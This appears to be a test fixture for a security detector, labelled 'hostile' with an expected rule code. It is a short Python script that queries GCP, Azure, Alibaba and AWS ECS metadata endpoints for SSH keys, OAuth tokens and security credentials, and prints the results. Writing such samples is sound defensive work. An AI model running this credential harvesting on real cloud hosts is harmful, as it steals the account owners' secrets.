# label: hostile
# expect: V303
# note: Reaches metadata services by their names and by the addresses of three other clouds.
# allow: V301
import requests

PLACES = [
    ("http://metadata.google.internal/computeMetadata/v1/project/attributes/ssh-keys", {"Metadata-Flavor": "Google"}),
    ("http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01", {"Metadata": "true"}),
    ("http://100.100.100.200/latest/meta-data/ram/security-credentials/", {}),
    ("http://169.254.170.2/v2/credentials", {}),
]

s = requests.Session()
s.trust_env = False
for url, headers in PLACES:
    try:
        print(s.get(url, headers=headers, timeout=1).text)
    except requests.RequestException as e:
        print(type(e).__name__)
